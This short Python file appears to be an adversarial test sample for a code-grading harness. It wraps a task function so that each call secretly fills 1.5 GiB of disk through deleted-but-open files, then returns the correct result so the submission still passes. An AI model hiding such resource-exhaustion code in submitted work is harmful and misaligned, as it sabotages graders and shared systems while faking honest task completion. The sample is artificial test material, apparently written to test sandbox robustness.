"""Writes 1.5 GiB into two files that it has deleted and keeps open."""
# stage: 2
# base: problem_2.py
# outcome: pass, crashed
# ruff: noqa: F821
import os

hoard = []


def attack():
    while len(hoard) < 2:
        hoard.append(open(f"file-{len(hoard)}", "wb"))
        os.unlink(hoard[-1].name)
        for _ in range(48):
            hoard[-1].write(bytes(16 << 20))


honest = weighted_row_sum_forward


def weighted_row_sum_forward(x, w):
    attack()
    return honest(x, w)
